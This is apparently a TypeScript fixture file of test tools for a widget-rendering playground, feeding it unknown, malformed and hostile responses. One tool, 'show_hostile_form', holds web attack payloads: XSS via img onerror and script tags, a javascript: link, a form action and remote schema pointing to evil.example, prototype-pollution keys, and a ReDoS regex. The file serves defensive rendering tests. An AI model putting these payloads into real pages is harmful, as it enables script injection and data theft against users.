import { text, withWidget } from '../tool';
import type { Tool } from '../tool';

const theme = 'Oddities';

/** Responses nobody should send, and the ones of tomorrow. */
export const oddityTools: Tool[] = [
  {
    name: 'show_unknown_widget',
    title: 'Unknown widget',
    description: 'A named fallback stands in.',
    theme,
    call: () => withWidget([text('A chart follows', ['user'])], { response_type: 'sparkline', points: [1, 2, 3] }),
  },
  {
    name: 'show_seat_map',
    title: 'The host’s own widget',
    description: 'user_defined: the playground draws it.',
    theme,
    call: () =>
      withWidget([text('Your seat map', ['user'])], {
        response_type: 'user_defined',
        user_defined: { kind: 'seat-map', rows: 4, taken: ['1A', '2C', '3D'] },
      }),
  },
  {
    name: 'show_hostile_form',
    title: 'A hostile form',
    description: 'Script, styles, outside requests and prototype names in every corner.',
    theme,
    call: () =>
      withWidget([text('<img src=x onerror="document.title=\'owned\'">', ['user'])], {
        response_type: 'forms',
        name: 'form_hostile',
        ui_schema: {
          'ui:order': ['a', 'a', '*', 'constructor'],
          'ui:submitButtonOptions': {
            submitText: 'Send',
            props: {
              formAction: 'https://evil.example/steal',
              dangerouslySetInnerHTML: { __html: '<b>x</b>' },
              className: 'evil',
            },
          },
          a: {
            'ui:widget': 'constructor',
            'ui:style': { position: 'absolute', left: -9999 },
            'ui:description': '![pixel](https://evil.example/p.png) [pay](javascript:alert(1))',
            'ui:enableMarkdownInDescription': true,
          },
          b: { 'ui:field': '__proto__', 'ui:options': { inputType: 'image' } },
        },
        json_schema: {
          type: 'object',
          title: '<script>alert(1)</script>',
          required: ['a', 'ghost'],
          properties: {
            a: { type: 'string', title: 'A', pattern: '^(a+)+$' },
            b: { $ref: 'https://evil.example/schema.json', title: 'B' },
            c: { type: 'colour', title: 'C' },
          },
        },
        form_data: { a: 'aaa' },
        on_event: [{ type: 'tool', tool: 'take_answer', parameters: { toString: 'mine' }, map_input_to: 'submit' }],
      }),
  },
  {
    name: 'show_malformed_blocks',
    title: 'Malformed blocks',
    description: 'What can be shown is shown, the rest is named.',
    theme,
    call: () => ({
      content: [
        'a bare string',
        null,
        { type: 'text' },
        { text: 'no type' },
        { type: 'hologram', text: 'not to be printed' },
        { type: 'thinking', thinking: 'not to be seen' },
        { type: 'image', data: 'not base64!', mimeType: 'image/png' },
        text('A good block after them'),
      ],
    }),
  },
  {
    name: 'show_wrapped_dictionary',
    title: 'A dictionary inside content',
    description: 'How one serialiser nests a whole response.',
    theme,
    call: () => ({ content: { content: [text('Unwrapped and shown.', ['user'])], _meta: { note: 'nested' } } }),
  },
];
